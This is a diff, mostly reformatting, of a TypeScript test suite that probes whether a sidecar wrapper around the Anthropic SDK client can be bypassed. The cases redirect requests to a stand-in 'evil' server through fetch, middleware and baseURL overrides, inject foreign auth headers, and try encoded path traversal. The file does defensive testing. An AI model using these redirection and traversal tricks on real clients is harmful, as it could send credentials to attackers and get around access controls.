@@ -1,4 +1,5 @@
-import Anthropic, { type Middleware as SdkMiddleware } from '@anthropic-ai/sdk'
+import type Anthropic from '@anthropic-ai/sdk'
+import type { Middleware as SdkMiddleware } from '@anthropic-ai/sdk'
 import type { Context } from '../../lib/core/types.js'
 import { createSidecar } from '../../lib/sidecar.js'
 import { type MessagesServer, startServer } from '../support/messages-server.js'
@@ -53,13 +54,20 @@ const bearing = (server: MessagesServer) => server.requests.filter(request => be
 const ways: Record<string, (claude: Anthropic) => Promise<unknown>> = {
   'plain use': claude => claude.messages.create(ask),
   'emptying the list of middleware': claude => {
-    claude.middleware.length = 0
+    ;(claude.middleware as unknown[]).length = 0
     return claude.messages.create(ask)
   },
   'withOptions({ middleware: [] })': claude => claude.withOptions({ middleware: [] }).messages.create(ask),
-  'a middleware of the request that rewrites': claude => claude.messages.create(ask, { middleware: [(request, next) => next({ ...request, url: `${evil.url}/v1/messages`, body: '{"model":"claude-haiku-4-5","max_tokens":1,"messages":[]}' })] }),
+  'a middleware of the request that rewrites': claude =>
+    claude.messages.create(ask, {
+      middleware: [
+        (request, next) =>
+          next({ ...request, url: `${evil.url}/v1/messages`, body: '{"model":"claude-haiku-4-5","max_tokens":1,"messages":[]}' }),
+      ],
+    }),
   'a middleware of the request that repeats': claude => claude.messages.create(ask, { middleware: [twice] }),
-  'withOptions({ fetch })': claude => claude.withOptions({ fetch: ((_: string, init: RequestInit) => fetch(`${evil.url}/v1/messages`, init)) as never }).messages.create(ask),
+  'withOptions({ fetch })': claude =>
+    claude.withOptions({ fetch: ((_: string, init: RequestInit) => fetch(`${evil.url}/v1/messages`, init)) as never }).messages.create(ask),
   'an assigned fetch': claude => {
     const own = claude.withOptions({})
     ;(own as any).fetch = (_: string, init: RequestInit) => fetch(`${evil.url}/v1/messages`, init)
@@ -67,20 +75,28 @@ const ways: Record<string, (claude: Anthropic) => Promise<unknown>> = {
   },
   'withOptions({ baseURL })': claude => claude.withOptions({ baseURL: evil.url }).messages.create(ask),
   'withOptions({ baseURL }) with a path': claude => claude.withOptions({ baseURL: `${evil.url}/v1/files?x=` }).messages.create(ask),
-  'withOptions({ baseURL }) with the prefix of the pinned one': claude => claude.withOptions({ baseURL: `${evil.url}/gate/way` }).messages.create(ask),
+  'withOptions({ baseURL }) with the prefix of the pinned one': claude =>
+    claude.withOptions({ baseURL: `${evil.url}/gate/way` }).messages.create(ask),
   'an assigned baseURL': claude => {
     const own = claude.withOptions({})
     own.baseURL = `${evil.url}/`
     return own.messages.create(ask)
   },
   'withOptions({ fetchOptions })': claude => claude.withOptions({ fetchOptions: { redirect: 'follow' } as never }).messages.create(ask),
-  'withOptions({ credentials })': claude => claude.withOptions({ credentials: async () => ({ token: 'theirs', expiresAt: null }) as never }).messages.create(ask),
+  'withOptions({ credentials })': claude =>
+    claude.withOptions({ credentials: async () => ({ token: 'theirs', expiresAt: null }) as never }).messages.create(ask),
   'the constructor of the client': claude => new (claude.constructor as typeof Anthropic)().messages.create(ask),
-  'the constructor of the client, with options': claude => new (claude.constructor as typeof Anthropic)({ baseURL: evil.url, apiKey: 'theirs' }).messages.create(ask),
-  'headers of their own': claude => claude.withOptions({ defaultHeaders: { authorization: 'Bearer theirs', 'x-api-key': 'theirs', 'x-gateway': 'theirs' } }).messages.create(ask),
-  'headers of the request': claude => claude.messages.create(ask, { headers: { Authorization: 'Bearer theirs', 'X-Api-Key': 'theirs', Host: 'evil', Cookie: 'theirs' } }),
+  'the constructor of the client, with options': claude =>
+    new (claude.constructor as typeof Anthropic)({ baseURL: evil.url, apiKey: 'theirs' }).messages.create(ask),
+  'headers of their own': claude =>
+    claude
+      .withOptions({ defaultHeaders: { authorization: 'Bearer theirs', 'x-api-key': 'theirs', 'x-gateway': 'theirs' } })
+      .messages.create(ask),
+  'headers of the request': claude =>
+    claude.messages.create(ask, { headers: { Authorization: 'Bearer theirs', 'X-Api-Key': 'theirs', Host: 'evil', Cookie: 'theirs' } }),
   'request() with a whole URL': claude => claude.request({ method: 'post', path: `${evil.url}/v1/messages`, body: ask }),
-  'request() with a whole URL of an unlisted endpoint': claude => claude.request({ method: 'post', path: `${evil.url}/v1/messages/batches`, body: {} }),
+  'request() with a whole URL of an unlisted endpoint': claude =>
+    claude.request({ method: 'post', path: `${evil.url}/v1/messages/batches`, body: {} }),
   'a path with dots': claude => claude.request({ method: 'post', path: '/v1/messages/../messages/batches', body: ask }),
   'a path with encoded dots': claude => claude.request({ method: 'get', path: '/v1/models/%2e%2e/files', body: undefined }),
   'a path with an encoded slash': claude => claude.request({ method: 'post', path: '/v1/messages%2fbatches', body: ask }),
@@ -88,10 +104,18 @@ const ways: Record<string, (claude: Anthropic) => Promise<unknown>> = {
   batches: claude => claude.messages.batches.list(),
   'creating batches': claude => claude.messages.batches.create({ requests: [{ custom_id: 'a', params: ask }] }),
   files: claude => claude.beta.files.list(),
-  'the fetch of the client, called by hand': claude => (claude as any).fetch(`${evil.url}/v1/messages`, { method: 'POST', body: JSON.stringify(ask) }).then((response: Response) => response.json()),
-  'the fetch of the client, with a Request': claude => (claude as any).fetch(new Request(`${evil.url}/v1/messages`, { method: 'POST', body: JSON.stringify(ask) })).then((response: Response) => response.json()),
+  'the fetch of the client, called by hand': claude =>
+    (claude as any)
+      .fetch(`${evil.url}/v1/messages`, { method: 'POST', body: JSON.stringify(ask) })
+      .then((response: Response) => response.json()),
+  'the fetch of the client, with a Request': claude =>
+    (claude as any)
+      .fetch(new Request(`${evil.url}/v1/messages`, { method: 'POST', body: JSON.stringify(ask) }))
+      .then((response: Response) => response.json()),
   'the fetch of the client, with a URL and a stream for a body': claude =>
-    (claude as any).fetch(new URL(`${evil.url}/v1/messages`), { method: 'POST', body: new Blob([JSON.stringify(ask)]).stream(), duplex: 'half' }).then((response: Response) => response.json()),
+    (claude as any)
+      .fetch(new URL(`${evil.url}/v1/messages`), { method: 'POST', body: new Blob([JSON.stringify(ask)]).stream(), duplex: 'half' })
+      .then((response: Response) => response.json()),
 }
 
 const twice: SdkMiddleware = async (request, next) => {
@@ -99,7 +123,11 @@ const twice: SdkMiddleware = async (request, next) => {
   return next(request)
 }
 
-const result = (work: Promise<unknown>) => work.then(value => value, error => error)
+const result = (work: Promise<unknown>) =>
+  work.then(
+    value => value,
+    error => error,
+  )
 
 // What every module of the process can reach anyway.
 const beyond = new Set<unknown>([process, process.env, globalThis, console])
@@ -117,7 +145,8 @@ function reachable(root: unknown): string[] {
     if (beyond.has(value) || ArrayBuffer.isView(value)) continue
     seen.add(value)
     queue.push([Object.getPrototypeOf(value), `${path}.__proto__`])
-    if (value instanceof Headers || value instanceof Map || value instanceof Set) queue.push([[...(value as Iterable<unknown>)], `${path}[*]`])
+    if (value instanceof Headers || value instanceof Map || value instanceof Set)
+      queue.push([[...(value as Iterable<unknown>)], `${path}[*]`])
     for (const name of Reflect.ownKeys(value)) {
       const descriptor = Object.getOwnPropertyDescriptor(value, name)!
       if (bears(String(name))) found.push(`${path}.${String(name)}`)
@@ -139,7 +168,11 @@ describe('the bypasses', () => {
   })
 
   it('reach the pinned server with what the seam holds, and nothing of theirs', async () => {
-    await sidecar().io.claude.messages.create(ask, { headers: { Authorization: 'Bearer theirs', 'X-Api-Key': 'theirs', 'X-Gateway': 'theirs', Cookie: 'theirs', Host: 'theirs' } }).catch(() => {})
+    await sidecar()
+      .io.claude.messages.create(ask, {
+        headers: { Authorization: 'Bearer theirs', 'X-Api-Key': 'theirs', 'X-Gateway': 'theirs', Cookie: 'theirs', Host: 'theirs' },
+      })
+      .catch(() => {})
     const [request] = pinned.requests
     expect(request!.headers).toMatchObject({ authorization: `Bearer ${key}`, 'x-gateway': gatewaySecret, 'x-env-secret': envSecret })
     expect(JSON.stringify(request!.headers)).not.toContain('theirs')
@@ -149,10 +182,12 @@ describe('the bypasses', () => {
     const seen: unknown[] = []
     const own = createSidecar({
       agent: { name: 'probe', send: async (message: string) => message },
-      use: [async (ctx, next) => {
-        seen.push(ctx.action)
-        await next()
-      }],
+      use: [
+        async (ctx, next) => {
+          seen.push(ctx.action)
+          await next()
+        },
+      ],
       claude: { apiKey: key, baseURL: pinned.url },
     })
     const body = '{"model":"claude-haiku-4-5","max_tokens":9,"messages":[],"max_tokens":7}'
